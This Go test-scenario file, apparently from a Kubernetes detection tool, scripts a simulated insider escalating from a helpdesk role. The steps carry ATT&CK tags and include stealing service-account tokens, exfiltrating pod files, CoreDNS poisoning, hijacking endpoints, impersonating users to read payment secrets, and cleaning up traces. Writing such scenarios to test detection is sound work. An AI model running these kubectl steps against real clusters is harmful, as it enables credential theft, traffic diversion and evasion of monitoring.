package play

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

// decoded is base64 decoded, "" if it is none.
func decoded(text string) string {
	b, err := base64.StdEncoding.DecodeString(text)
	if err != nil {
		return ""
	}
	return string(b)
}

// helpdeskRole is what people on call got over the years.
const helpdeskRole = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: helpdesk}
rules:
- {apiGroups: [""], resources: [pods, pods/log, services, endpoints, nodes, events, namespaces], verbs: [get, list, watch]}
- {apiGroups: [""], resources: [pods], verbs: [delete]}
- {apiGroups: [""], resources: [pods/portforward, pods/exec, pods/attach], verbs: [create, get]}
- {apiGroups: [""], resources: [configmaps, services, endpoints, nodes], verbs: [get, list, patch, update]}
- {apiGroups: [rbac.authorization.k8s.io], resources: [roles, rolebindings, clusterroles, clusterrolebindings], verbs: [get, list]}
- {apiGroups: [rbac.authorization.k8s.io], resources: [rolebindings], verbs: [create, delete]}
- {apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [bind], resourceNames: [edit]}
- {apiGroups: [authorization.k8s.io], resources: [subjectaccessreviews], verbs: [create]}
- {apiGroups: [authentication.k8s.io], resources: [tokenreviews], verbs: [create]}
- {apiGroups: [""], resources: [groups], verbs: [impersonate], resourceNames: [devs-payments]}
- {apiGroups: [""], resources: [users], verbs: [impersonate]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: helpdesk}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: helpdesk}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: helpdesk}]
---
apiVersion: v1
kind: ConfigMap
metadata: {name: kube-proxy, namespace: kube-system}
data: {config.conf: "apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\nmode: iptables\n"}
`

// Helpdesk is a person of the company who turns: few rights, his own machine, programs that he uses every day.
func Helpdesk(s *stage.Stage) {
	c := Found(s)
	c.Mira.MustApply(helpdeskRole, "apply", "-f", "-")
	tom := s.Member(s.Outside("tom", "10.20.0.41"), "tom.brandt", "helpdesk")
	for range 5 { // his ordinary work
		tom.Look("-n", "shop", "get", "pods")
		tom.Look("-n", "shop", "logs", "deploy/web", "--tail=10")
	}
	curious(s, tom)
	diverting(s, tom)
	borrowing(s, tom)
}

// curious looks where he has nothing to do.
func curious(s *stage.Stage, tom *stage.Actor) {
	s.Attack("T1069", "Discovery: Access Kubernetes API server", "looks up who may do what in the whole cluster").
		As(tom).Do(func(a *stage.Act) {
		a.Must("get", "rolebindings,clusterrolebindings", "-A", "-o", "json")
		for _, who := range []string{"mira.holm", "ci-pipeline", "system:serviceaccount:payments:payments-api"} {
			a.Request(kubectlAgent, "POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", `{"apiVersion":"authorization.k8s.io/v1","kind":"SubjectAccessReview","spec":{"user":"`+who+`","resourceAttributes":{"verb":"list","resource":"secrets"}}}`)
		}
	})
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "is refused the secrets of several namespaces").
		As(tom).Do(func(a *stage.Act) {
		for _, ns := range []string{"payments", "shop", "data", "kube-system"} {
			a.Kubectl("-n", ns, "get", "secrets")
		}
	})
	api := s.Pod("payments", "app=api")
	var token string
	s.Attack("T1552.007", "Credential Access: Access container service account", "reads the token of "+api.String()+" by exec through a shell").
		On(api).As(tom).Do(func(a *stage.Act) {
		token = a.Must("-n", "payments", "exec", api.Name, "--", "sh", "-c", "cat "+stage.TokenFile)
	})
	s.Attack("T1550.001", "Credential Access: Access container service account", "has the token checked and uses it on his own machine").
		As(s.Bearer(tom.In, strings.TrimSpace(token), api).By("tom.brandt")).Do(func(a *stage.Act) {
		a.Kubectl("auth", "whoami")
		a.Kubectl("-n", "payments", "get", "configmaps")
	})
	s.Attack("T1528", "Credential Access: Access container service account", "asks the API server whose the token is").
		As(tom).Do(func(a *stage.Act) {
		a.Request(kubectlAgent, "POST", "/apis/authentication.k8s.io/v1/tokenreviews", `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenReview","spec":{"token":"`+strings.TrimSpace(token)+`"}}`)
	})
	s.Attack("T1005", "Collection: Collecting data from pod", "packs a directory of "+api.String()+" and takes it away").
		On(api).As(tom).Do(func(a *stage.Act) {
		a.Kubectl("-n", "payments", "exec", api.Name, "--", "tar", "czf", "-", "/etc", "/srv")
	})
	s.Attack("T1005", "Collection: Collecting data from pod", "takes all logs of payments").
		As(tom).Do(func(a *stage.Act) {
		a.Kubectl("-n", "payments", "logs", "-l", "app=api", "--all-containers", "--tail=-1", "--prefix")
		a.Kubectl("-n", "payments", "logs", "-l", "app=ledger", "--all-containers", "--tail=-1", "--prefix")
	})
	s.Attack("T1572", "Lateral Movement: Cluster internal networking", "forwards a port of payments/ledger to his machine").
		As(tom).Do(func(a *stage.Act) {
		a.Brief(2*time.Second, "-n", "payments", "port-forward", "svc/ledger", "18083:80", "--address=0.0.0.0")
	})
}

// kubectlAgent is what kubectl calls itself, for requests that it makes with --raw or that scripts make in its name.
const kubectlAgent = "kubectl/v1.36.3 (linux/amd64) kubernetes/5c3f1a2"

// diverting edits what others rely on.
func diverting(s *stage.Stage, tom *stage.Actor) {
	s.Attack("T1557", "Lateral Movement: CoreDNS poisoning", "puts a name of payments into the cluster DNS's hosts by replacing its configuration").
		As(tom).Do(func(a *stage.Act) {
		a.MustApply("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: coredns, namespace: kube-system}\ndata: {Corefile: \".:53 {\\n hosts {\\n 203.0.113.44 ledger.payments.svc.cluster.local\\n fallthrough\\n }\\n kubernetes cluster.local\\n}\\n\"}\n", "replace", "-f", "-")
	})
	s.Attack("T1565", "Lateral Movement: Cluster internal networking", "changes kube-proxy's configuration").
		As(tom).Do(func(a *stage.Act) {
		a.Must("-n", "kube-system", "patch", "configmap", "kube-proxy", "--type=merge", "-p", `{"data":{"config.conf":"apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\nmode: userspace\nhealthzBindAddress: 0.0.0.0:10256\nmetricsBindAddress: 0.0.0.0:10249\n"}}`)
	})
	s.Attack("T1557", "Lateral Movement: Cluster internal networking", "has service shop/web take an address of the payment provider").
		As(tom).Do(func(a *stage.Act) {
		a.Must("-n", "shop", "patch", "service", "web", "-p", `{"spec":{"externalIPs":["198.51.100.80"]}}`)
	})
	s.Attack("T1557", "Lateral Movement: Cluster internal networking", "changes the endpoints of payments/ledger to a pod of shop").
		As(tom).Do(func(a *stage.Act) {
		web := s.Pod("shop", "app=web")
		a.Must("-n", "payments", "patch", "endpoints", "ledger", "--type=merge", "-p", fmt.Sprintf(`{"subsets":[{"addresses":[{"ip":%q}],"ports":[{"name":"http","port":8080}]}]}`, web.IP))
	})
	s.Attack("T1565", "Lateral Movement: Cluster internal networking", "has service payments/api select the pods of another application").
		As(tom).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "patch", "service", "api", "--type=json", "-p", `[{"op":"replace","path":"/spec/selector","value":{"app":"ledger"}}]`)
	})
	s.Attack("T1562", "Defense Evasion: Disable or modify tools", "changes the labels by which node agents find the node").
		As(tom).Do(func(a *stage.Act) {
		a.Must("label", "node", "node1", "kubernetes.io/os=none", "monitoring=off", "--overwrite")
	})
}

// borrowing takes rights that are not his.
func borrowing(s *stage.Stage, tom *stage.Actor) {
	s.Attack("T1134", "Privilege Escalation: Impersonation", "acts as a developer of payments").
		As(tom).Assuming("anna.keller").Do(func(a *stage.Act) {
		a.Must("--as=anna.keller", "--as-group=devs-payments", "-n", "payments", "get", "secret", "stripe-key", "-o", "jsonpath={.data}")
	})
	s.Attack("T1098.006", "Privilege Escalation: Cluster-admin binding", "gives himself the role edit in payments").
		As(tom).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "create", "rolebinding", "oncall", "--clusterrole=edit", "--user=tom.brandt")
	})
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "reads secrets of payments one by one").
		As(tom).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "get", "secret", "db-credentials", "-o", "jsonpath={.data.password}")
		a.Must("-n", "payments", "get", "secret", "stripe-key", "-o", "jsonpath={.data.api-key}")
	})
	s.Attack("T1610", "Lateral Movement: Container service account", "runs a pod of his own with the account of payments/api").
		As(tom).Do(func(a *stage.Act) {
		a.MustApply(podRunning("payments", "tom-test", imageAlpine, "[app, serve]", "serviceAccountName: payments-api", "envFrom: [{secretRef: {name: db-credentials}}]"), "apply", "--server-side", "-f", "-")
	})
	own := s.PodNamed("payments", "tom-test")
	s.Attack("T1552.007", "Credential Access: Mount service principal", "prints the environment of his pod, which is the secret").
		On(own).As(tom).Do(func(a *stage.Act) { a.Must("-n", "payments", "exec", own.Name, "--", "env") })
	s.Attack("T1078", "Privilege Escalation: Cluster-admin binding", "tries what would be more, without doing it (dry run)").
		As(tom).Do(func(a *stage.Act) {
		a.Kubectl("create", "clusterrolebinding", "oncall", "--clusterrole=cluster-admin", "--user=tom.brandt", "--dry-run=server")
		a.Kubectl("-n", "kube-system", "create", "token", "default")
	})
	s.Attack("T1070", "Defense Evasion: Clear container logs", "takes his pod and his binding away again").
		As(tom).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "delete", "pod", "tom-test", "--force", "--grace-period=0")
		a.Must("-n", "payments", "delete", "rolebinding", "oncall")
	})
}
